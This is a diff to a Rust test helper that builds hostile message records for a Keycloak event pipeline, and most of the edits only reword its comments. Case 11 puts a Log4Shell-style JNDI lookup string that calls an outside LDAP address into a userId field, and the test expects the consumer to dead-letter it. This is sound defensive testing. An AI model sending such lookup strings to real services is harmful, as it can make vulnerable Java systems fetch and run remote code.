@@ -1,17 +1,16 @@
-//! Records that nobody should write and somebody does.
+//! Hostile records: what nobody should write and somebody does.
 //!
-//! Knows nothing of ordinary records but that one may be damaged.
+//! Knows nothing of ordinary records, except how to damage one.
 
 use fastrand::Rng;
 use serde_json::{Value, json};
 
 use super::{Expected, keycloak::uuid};
 
-/// Large, and still below the megabyte that brokers take.
+/// Large, but below the megabyte that brokers accept.
 const LARGE: usize = 200_000;
 
-/// A hostile record: its key, its value, and what must become of it. `ordinary` is a record's value as
-/// Keycloak writes it.
+/// A hostile record: its key, its value, and what it must become. `ordinary` is a value as Keycloak writes it.
 pub(super) fn record(
     ordinary: &[u8],
     time: i64,
@@ -30,7 +29,7 @@ pub(super) fn record(
         8 => ("[".repeat(LARGE).into_bytes(), Expected::DeadLetter),
         9 => (text(&login(time, rng), "type", &json!({})), Expected::DeadLetter),
         10 => (text(&login(time, rng), "userId", &json!([])), Expected::DeadLetter),
-        // No endpoint may have such a user's id, and without it the event would be nobody's.
+        // No endpoint may have such a user id, and without it the event would belong to nobody.
         11 => {
             (text(&login(time, rng), "userId", &json!("${jndi:ldap://203.0.113.9/a}")), Expected::DeadLetter)
         }
@@ -39,7 +38,7 @@ pub(super) fn record(
     (key, Some(value), expected)
 }
 
-/// A sign-in with something strange about it, which is delivered all the same.
+/// A strange sign-in, which must be delivered nevertheless.
 fn unusual_login(time: i64, rng: &mut Rng) -> (Vec<u8>, Expected) {
     let login = login(time, rng);
     let id = login["id"].as_str().unwrap_or_default();
